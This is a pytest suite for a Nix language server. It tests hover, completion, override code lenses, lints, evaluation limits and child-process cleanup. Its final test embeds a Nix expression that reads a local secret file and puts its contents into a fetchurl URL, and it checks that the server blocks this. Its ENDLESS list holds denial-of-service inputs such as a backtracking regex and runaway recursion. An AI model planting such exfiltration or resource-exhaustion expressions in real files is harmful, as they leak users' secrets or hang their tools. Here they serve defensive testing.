"""What has to be evaluated: values, lenses on overrides; and that no program stops the server."""

from __future__ import annotations

import http.server
import os
import signal
import subprocess
import threading
import time
from typing import TYPE_CHECKING, Any

import pytest

from tests.lsp.editor import Editor, marked, position, spans
from tests.lsp.test_session import applied, labels, put

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path


def hover(editor: Editor, text: str) -> str:
    """What a hover over the mark says."""
    uri, at = put(editor, text)
    found = editor.at("hover", uri, *at)
    return found["contents"]["value"] if found else ""


HOVERS = [
    ("let a = 1 + 1; in █a", ["a = 1 + 1", "**int**", "2"]),
    ("let f = { x, y ? 1 }: x; in █f", ["f = { x, y ? … }: …", "**function**"]),
    ("rec { a = [ 1 (1 + 1) ]; b = █a; }", ["**list**", "[ 1 2 ]"]),
    ("let a = { b = 1; c.d = 2; }; in a.█c", ["**set**", "{ d = 2; }"]),
    ("let s = { a = 1; }; in with s; [ █a ]", ["**int**", "1"]),
    ("x: █x", ["x  # argument"]),
    ("let\n  # says what\n  # it is\n  f = x: x;\nin █f", ["says what\nit is"]),
    ("let\n  /** Doc *here*. */\n  f = x: x;\nin █f", ["Doc *here*."]),
    ("builtins.█attrNames", ["builtins.attrNames set", "sorted list"]),
    ("█map", ["builtins.map f list", "Apply the function"]),
    ('let a = throw "no ${"way"}"; in █a', ["⚠ no way"]),
    ("let a = 1 / 0; in █a", ["⚠ division by zero"]),
    ("let f = x: f x; in { a = █f 1; }", ["f = x: …"]),
    ("let a = f 1; f = x: f x; in █a", ["⚠ stack overflow; max-call-depth exceeded"]),
    ("let x = ; y = { a = 2; }; in y.█a", ["**int**", "2"]),
    ("let x = nope; y = 2; in [ x █y ]", ["**int**", "2"]),
    ("{ hello }: hello.█pname", ["**string**", '"hello"']),
    ("{ █hello }: hello", ["hello  # argument", "**derivation** `hello-"]),
    ("{ hello, ownArgument }: ownArgument.█x", ["x"]),
    ("final: prev: { hello = █prev.hello; }", ["**set**"]),
    ("final: prev: { h = prev.hello.overrideAttrs (old: { v = old.█version; }); }", ["**string**", '"2.1']),
    ("import ./█lib.nix", ["lib.nix"]),
    ("{ config, lib, pkgs, ... }: pkgs.hello.█pname", ["**string**", '"hello"']),
    ("{ config, lib, pkgs, ... }: █config.x", ["config  # argument"]),
]


@pytest.mark.parametrize(("text", "parts"), HOVERS)
def test_hover(editor: Editor, text: str, parts: list[str]) -> None:
    (editor.folder / "lib.nix").write_text("{ }")
    said = hover(editor, text)
    assert [part for part in parts if part not in said] == [], said


FLAKE = """\
{
  outputs = inputs@{ self, nixpkgs, other }:
    let
      pkgs = nixpkgs.legacyPackages.x86_64-linux;
    in
    {
      packages.x86_64-linux.default = pkgs.hello;
      name = self.packages.x86_64-linux.default.pname;
      again = inputs.nixpkgs.lib.version;
      x = other.x;
    };
}
"""


def test_a_flake_has_the_packages_of_the_settings(editor: Editor) -> None:
    uri = editor.open("flake.nix", FLAKE)
    for line, column, part in [(3, 7, "**set**"), (7, 7, '"hello"'), (9, 12, "")]:
        said = editor.at("hover", uri, line, column)["contents"]["value"]
        assert part in said
        assert "⚠" not in said


def test_hover_over_nothing(editor: Editor) -> None:
    for text in ("{ a = 1;█ }", "# a█bc", "█", "{█ }"):
        assert hover(editor, text) == ""


def test_other_files_count_as_they_are_typed(editor: Editor) -> None:
    (editor.folder / "typed.nix").write_text("{ a = 1; }")
    text = "let t = import ./typed.nix; in t.█a"
    assert "1" in hover(editor, text)
    other = editor.open("typed.nix", "{ a = 20 + 22; }")
    assert "42" in hover(editor, text)
    editor.tell("textDocument/didClose", textDocument={"uri": other})
    assert "42" not in hover(editor, text)
    (editor.folder / "typed.nix").write_text("{ a = 7 * 11; }")
    editor.tell("textDocument/didSave", textDocument={"uri": other})
    assert "77" in hover(editor, text)


def test_completion_of_what_is_evaluated(editor: Editor) -> None:
    for text, there in [
        ("let a = { x = 1; } // { y = 2; }; b = builtins.mapAttrs (n: v: v) a; in b.█", ["x", "y"]),
        ("{ pkgs ? import <nixpkgs> { } }: pkgs.hel█", ["hello"]),
        ("{ pkgs ? import <nixpkgs> { } }: with pkgs; [ hel█ ]", ["hello"]),
        ("{ pkgs }: pkgs.hello.overrideAttrs (old: { █ })", ["version", "src"]),
        ("{ pkgs }: pkgs.hello.overrideAttrs (old: { version = old.█; })", ["version", "src"]),
        ("{ stdenv, hel█ }: stdenv", ["hello"]),
        ("let f = builtins.head [ ({ url, name ? 1 }: url) ]; in f { █ }", ["url", "name"]),
    ]:
        uri, at = put(editor, text)
        found = labels(editor.at("completion", uri, *at))
        assert [name for name in there if name not in found] == [], (text, found[:20])


def test_a_part_in_the_middle_of_what_it_is_bound_with(editor: Editor) -> None:
    """The names around the part are there once more, as the values that they have."""
    text = """
    let s = { l = { k = { a = 1; }; }; n = 5; }; in
    rec {
      x = 1;
      y = with s.l; rec {
        z = let w = with k; █a + x + z2; in w + s.n;
        z2 = x + 1;
      };
    }
    """
    assert "**int**" in hover(editor, text)
    assert '"4"' in hover(
        editor, text.replace("█a + x + z2", "toString (a + x + z2)").replace("w = with", "█w = with")
    )
    assert "9" in hover(editor, text.replace("█a", "a").replace("        z = let", "        █z = let"))


def test_definitions_of_what_is_evaluated(editor: Editor) -> None:
    uri, at = put(editor, "{ pkgs ? import <nixpkgs> { } }: pkgs.█hello")
    declared = editor.at("declaration", uri, *at)[0]
    assert declared["uri"].endswith(".nix")
    assert "nixpkgs" in declared["uri"]
    uri, at = put(
        editor,
        "let s = builtins.mapAttrs (n: v: v) { a = 1; }; in builtins.intersectAttrs s { b = 2;\n a = 3; } .█a",
    )
    assert spans(editor.at("definition", uri, *at)) != []


def test_hints_show_values(editor: Editor) -> None:
    text = 'rec {\n  a = 1;\n  b = a + 1;\n  c = "😀${toString b}";\n  d = x: x;\n  e = nope;\n  f = map d [ b ];\n}\n'
    uri, _ = put(editor, text)
    found = editor.about("inlayHint", uri, range={"start": position(0, 0), "end": position(99, 0)})
    assert sorted((one["position"]["line"], one["position"]["character"], one["label"]) for one in found) == [
        (2, 11, "= 2"), (3, 23, '= "😀2"'), (6, 17, "= [ 2 ]"),
    ]  # fmt: skip
    part = editor.about("inlayHint", uri, range={"start": position(2, 0), "end": position(2, 5)})
    assert len(part) == 1


# -- overrides

OVERRIDE = """\
{ pkgs ? import <nixpkgs> { } }:
pkgs.python3Packages.pytorch-lightning.overrideAttrs (old: {
  version = "0.9.0";
  doCheck = false;
})
"""


def test_a_lens_tells_what_reaches_the_build(editor: Editor) -> None:
    uri = editor.open("override.nix", OVERRIDE)
    waiting = editor.about("codeLens", uri)
    assert [one["command"]["title"] for one in waiting] == ["nixlite: what reaches the build?"]
    found = editor.diagnostics(uri, lambda found: any(one["code"] == "stale-override" for one in found))
    assert spans([one for one in found if one["code"] == "stale-override"]) == [(2, 2, 2, 9)]
    editor.wait("workspace/codeLens/refresh")
    lens = editor.about("codeLens", uri)[0]
    assert lens["command"]["title"] == "⚠ 1 of 2 values reaches the build – show"
    assert lens["range"]["start"]["line"] == 1
    editor.ask(
        "workspace/executeCommand", command=lens["command"]["command"], arguments=lens["command"]["arguments"]
    )
    shown = editor.wait("window/showDocument")["uri"].removeprefix("file://")
    with open(shown, encoding="utf-8") as file:
        assert "version" in file.read()


def test_the_fix_of_an_override_lets_all_values_through(editor: Editor) -> None:
    uri = editor.open("fixed.nix", OVERRIDE)
    editor.diagnostics(uri, lambda found: any(one["code"] == "stale-override" for one in found))
    at = {"start": position(2, 4), "end": position(2, 4)}
    action = editor.about("codeAction", uri, range=at, context={"diagnostics": []})[0]
    assert action["title"].startswith("Override again so that all values reach the build")
    text = applied(OVERRIDE, action["edit"]["changes"][uri])
    assert "src = " in text
    editor.rewrite(uri, text)
    end = time.monotonic() + 30
    while "✓ all 4 values reach the build" not in titles(editor, uri):
        assert time.monotonic() < end, titles(editor, uri)
        time.sleep(0.2)


def titles(editor: Editor, uri: str) -> list[str]:
    return [one["command"]["title"] for one in editor.about("codeLens", uri)]


PLAIN = """\
let
  base = rec {
    version = "1";
    name = "x-${version}";
  };
in
base // { version = "2"; }
"""


CALL = 'pytorch-lightning.overrideAttrs (old: { version = "0.9.0"; doCheck = false; })'
FLAKE_WITH = """\
{ outputs = { self, nixpkgs }: { packages.x86_64-linux.x =
nixpkgs.legacyPackages.x86_64-linux.python3Packages.%s; }; }
"""
WRITTEN = [
    ("package.nix", f"{{ python3Packages }}:\npython3Packages.{CALL}\n"),
    ("overlay.nix", f"final: prev:\n{{ x = prev.python3Packages.{CALL}; }}\n"),
    ("flakes/flake.nix", FLAKE_WITH % CALL),
]


@pytest.mark.parametrize(("name", "text"), WRITTEN, ids=[row[0] for row in WRITTEN])
def test_a_lens_is_there_wherever_an_override_is_written(editor: Editor, name: str, text: str) -> None:
    (editor.folder / "flakes").mkdir(exist_ok=True)
    uri = editor.open(name, text)
    editor.diagnostics(uri, lambda found: any(one["code"] == "stale-override" for one in found))
    assert titles(editor, uri) == ["⚠ 1 of 2 values reaches the build – show"]
    assert editor.about("codeLens", uri)[0]["range"]["start"]["line"] == 1


def test_what_is_left_behind_by_an_update_is_told_and_mended(editor: Editor) -> None:
    uri = editor.open("plain.nix", PLAIN)
    editor.diagnostics(uri, lambda found: any(one["code"] == "stale-override" for one in found))
    assert titles(editor, uri) == ["⚠ 1 attribute made of what was there before – show"]
    at = {"start": position(6, 12), "end": position(6, 12)}
    action = editor.about("codeAction", uri, range=at, context={"diagnostics": []})[0]
    text = applied(PLAIN, action["edit"]["changes"][uri])
    assert 'name = "x-${version}";\n}' in text


def test_hover_tells_where_a_value_comes_from(editor: Editor) -> None:
    uri = editor.open("why.nix", OVERRIDE)
    said = editor.at("hover", uri, 2, 3)["contents"]["value"]
    assert "- `defined: " in said
    assert "\\" not in said
    assert "by overrideAttrs at why.nix:2: " in said


def test_lint_and_its_fix(editor: Editor) -> None:
    text = (
        '{ stdenv, fetchurl }:\nstdenv.mkDerivation rec {\n  pname = "x";\n  version = "1";\n'
        '  src = fetchurl { url = "https://x.org/${pname}-${version}"; sha256 = "' + 64 * "0" + '"; };\n}\n'
    )
    uri = editor.open("lint.nix", text)
    found = editor.diagnostics(uri, lambda found: any(one["code"] == "rec-arguments" for one in found))
    finding = next(one for one in found if one["code"] == "rec-arguments")
    assert finding["severity"] == 2
    action = editor.about("codeAction", uri, range=finding["range"], context={"diagnostics": [finding]})[0]
    assert "edit" not in action
    action = editor.ask("codeAction/resolve", **action)
    fixed = applied(text, action["edit"]["changes"][uri])
    assert "mkDerivation (finalAttrs: {" in fixed
    assert "${finalAttrs.version}" in fixed


# -- programs that go wrong

BAD = "let go = n: go (n + 1); in █"


@pytest.fixture(scope="module")
def small(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Editor]:
    """A session whose programs may have little."""
    options: dict[str, Any] = {
        "limits": {"seconds": 1, "memory": "700M"}, "hover": {"wait": 20}, "lint": False, "codeLens": False,
    }  # fmt: skip
    with Editor(tmp_path_factory.mktemp("small"), options) as one:
        yield one


ENDLESS = [
    ("let l = builtins.genList (x: x) 99999999; in { a = █l; }", "time"),
    ("let go = n: builtins.seq n (go (n + 1)); a = go 1; in █a", ""),
    ("let f = n: if n < 2 then n else f (n - 1) + f (n - 2); a = f 60; in █a", "⚠"),
    ('let s = builtins.foldl\' (s: x: s + s) "xxxxxxxxxxxxxxxx" (builtins.genList (x: x) 99); in █s', "⚠"),
    (
        'let a = builtins.match "(a*)*(b*)*(a*)*c" (builtins.concatStringsSep "" (builtins.genList (x: "ab") 2000)); in █a',
        "",
    ),
    ("let a = a; in █a", "⚠ infinite recursion encountered"),
    ('let a = builtins.trace "Content-Length: 9" 1; in █a', "**int**"),
    ("let f = x: [ (f x) ]; a = builtins.deepSeq (f 1) 1; in █a", "⚠"),
]


@pytest.mark.parametrize(("text", "said"), ENDLESS)
def test_what_does_not_end_is_ended(small: Editor, text: str, said: str) -> None:
    begun = time.monotonic()
    found = hover(small, text)
    assert time.monotonic() - begun < 10
    assert (said in found) or said == "time", found
    assert "2" in hover(small, "let ok = 1 + 1; in █ok")


def test_text_alone_is_answered_while_something_does_not_end(small: Editor) -> None:
    uri, at = put(small, "let a = builtins.foldl' (s: x: s + x) 0 (builtins.genList (x: x) 99999999); in █a")
    waiting = small.begin("textDocument/hover", textDocument={"uri": uri}, position=position(*at))
    begun = time.monotonic()
    assert small.about("documentSymbol", uri) != []
    assert time.monotonic() - begun < 1
    small.tell("$/cancelRequest", id=waiting)


def test_a_process_that_dies_is_replaced(tmp_path: Path) -> None:
    """The child is killed, as the kernel does where memory is short."""
    with Editor(tmp_path, {"hover": {"wait": 20}, "lint": False, "codeLens": False}) as one:
        assert "2" in hover(one, "let a = 1 + 1; in █a")
        children = subprocess.run(
            ["pgrep", "-P", str(one.process.pid)], capture_output=True, text=True, check=True
        ).stdout.split()
        assert children
        for child in children:
            os.kill(int(child), signal.SIGKILL)
        hover(one, "let a = 2 + 1; in █a")
        assert "4" in hover(one, "let a = 3 + 1; in █a")


def test_no_child_outlives_the_server(tmp_path: Path) -> None:
    one = Editor(tmp_path, {"hover": {"wait": 20}})
    hover(one, "let a = builtins.foldl' (s: x: s + x) 0 (builtins.genList (x: x) 9999); in █a")
    children = subprocess.run(
        ["pgrep", "-P", str(one.process.pid)], capture_output=True, text=True, check=True
    ).stdout.split()
    one.close()
    end = time.monotonic() + 10
    while any(map(is_running, children)):
        assert time.monotonic() < end
        time.sleep(0.1)


def is_running(child: str) -> bool:
    """Whether a process runs; one that only waits for its end to be looked at does not."""
    done = subprocess.run(["ps", "-o", "stat=", "-p", child], check=False, capture_output=True, text=True)
    return done.stdout.strip()[:1] not in ("", "Z")


def test_evaluation_may_be_turned_off(tmp_path: Path) -> None:
    with Editor(tmp_path, {"evaluate": False}) as one:
        plain, at = marked("let a = 1 + 1; in █a")
        uri = one.open("x.nix", plain)
        said = one.at("hover", uri, *at)["contents"]["value"]
        assert said == "```nix\na = 1 + 1\n```"
        assert one.about("inlayHint", uri, range={"start": position(0, 0), "end": position(9, 0)}) == []


@pytest.mark.parametrize("network", [False, True])
def test_opening_a_file_sends_nothing_away(tmp_path: Path, network: bool) -> None:
    """Else a file that somebody sent could fetch a URL with the contents of one of the user's in it."""
    asked: list[str] = []

    class Answers(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_error(404)

        def log_message(self, *arguments: object) -> None:
            pass

    (tmp_path / "secret").write_text("hush")
    server = http.server.HTTPServer(("127.0.0.1", 0), Answers)
    with server, Editor(tmp_path, {"network": network, "hover": {"wait": 20}}) as one:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        place = f"http://127.0.0.1:{server.server_port}"
        plain, at = marked(f'let a = builtins.fetchurl "{place}/${{builtins.readFile ./secret}}"; in █a')
        said = one.at("hover", one.open("x.nix", plain), *at)["contents"]["value"]
        server.shutdown()
    assert bool(asked) == network
    assert ("opening a file does not let it ask" in said) != network
